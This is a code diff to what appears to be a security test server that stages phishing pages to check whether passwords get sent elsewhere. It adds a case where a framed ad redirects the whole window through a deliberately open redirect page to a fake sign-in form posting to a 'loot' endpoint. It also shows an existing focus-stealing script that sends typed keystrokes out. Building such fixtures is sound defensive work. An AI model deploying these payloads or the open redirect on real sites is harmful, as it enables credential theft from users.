@@ -61,6 +61,7 @@ SHAPES = {
     "taken-inner": ("login", "a label of the button is over it, and has another one inside"),
     "taken-active": ("login", "something comes under the mouse between its press and its release, so that the label is clicked"),
     "taken-led": ("login", "a frame of another site leads the whole window to a login of its own"),
+    "taken-bounced": ("login", "the same by way of a page of the own server that leads to whatever its address says"),
     "taken-referer": ("login", "the same label, and the other button sends by GET to the own server, where the limit of a field has cut the password"),
     "taken-data": ("login", "the same label, and the other button puts what was typed into a document of its own"),
     "taken-boxes": ("login", "boxes for one sign each: the first stands alone, the others belong to a form of another server"),
@@ -192,6 +193,10 @@ def show(visit, shape, file=None, error="", headers=()):
     visit.answer(200, text, headers=headers)
 
 
+# What the frame of these shapes does, by its query.
+LED = {"taken-led": "led", "taken-bounced": "bounced"}
+
+
 def taken(visit, shape):
     """Returns what differs between the pages that take a password elsewhere."""
     loot = visit.context.urls["other"] + "/scripted/loot"
@@ -202,7 +207,7 @@ def taken(visit, shape):
         "field": {"taken-unseen-owner": 'form="owner"', "taken-boxes": 'form="none" maxlength="1"',
                   "taken-referer": 'maxlength="4"'}.get(
             shape, by_redirect.get("field", "")),
-        "start": "await new Promise(done => setTimeout(done, 60000));" if shape == "taken-led" else by_redirect.get("start", ""),
+        "start": "await new Promise(done => setTimeout(done, 60000));" if shape in LED else by_redirect.get("start", ""),
         "base": f'<base href="{visit.context.urls["other"]}/">' if shape == "taken-base" else "",
         "target": by_redirect.get("target", "/scripted/passed") if shape in TAKEN_BY_REDIRECT
         else {"taken-base": "scripted/loot", "taken-hover": "/scripted/honest?hover"}.get(shape, "/scripted/honest"),
@@ -218,7 +223,7 @@ def taken(visit, shape):
         else '<iframe name="inner"></iframe>' if shape == "taken-data"
         else f'<form action="{loot}">' + "".join(f'<input type="password" maxlength="1" name="{name}">' for name in "abcde")
         + '<button id="other"></button></form>' if shape == "taken-boxes"
-        else f'<iframe sandbox="allow-scripts allow-top-navigation" src="{thief}?led"></iframe>' if shape == "taken-led"
+        else f'<iframe sandbox="allow-scripts allow-top-navigation" src="{thief}?{LED[shape]}"></iframe>' if shape in LED
         else by_redirect.get("frame", ""),
     }
 
@@ -306,11 +311,16 @@ def service(visit):
                       "onfetch = event => event.respondWith(fetch(event.request, { redirect: 'follow' }));", "text/javascript")
 
 
-@page("/scripted/thief", "takes the focus, for the frame of /scripted/taken-focus; ?led the window of /scripted/taken-led")
+@page("/scripted/thief", "takes the focus, for the frame of /scripted/taken-focus; ?led and ?bounced lead the window")
 def thief(visit):
     query = urlsplit(visit.path).query
     if query == "led":
         return visit.html("Advertisement", '<script>setTimeout(() => { top.location = "/scripted/thief?form" }, 1000)</script>')
+    if query == "bounced":
+        return visit.html("Advertisement", """<script>setTimeout(() => {
+            const own = location.origin.replace("//", "//good.");
+            top.location = own + "/scripted/leave?" + location.origin + "/scripted/thief?form";
+            }, 1000)</script>""")
     if query == "form":
         return visit.html("Sign in", '<form method="post" action="/scripted/loot"><label>User name <input name="user"></label>'
                           '<label>Password <input name="password" type="password"></label><button>Sign in</button></form>')
@@ -319,6 +329,12 @@ def thief(visit):
         setInterval(() => { window.focus(); trap.focus(); }, 0);
         trap.oninput = () => fetch("/scripted/loot?taken=" + encodeURIComponent(trap.value));
         </script>""")
+
+
+@page("/scripted/leave", "leads to the address in its query")
+def leave(visit):
+    target = urlsplit(visit.path).query.replace('"', "")
+    visit.html("You leave this site", f'<meta http-equiv="refresh" content="1;url={target}"><p>One moment.</p>')
 
 
 @page("/scripted/honest", "the form of /scripted/taken-focus")
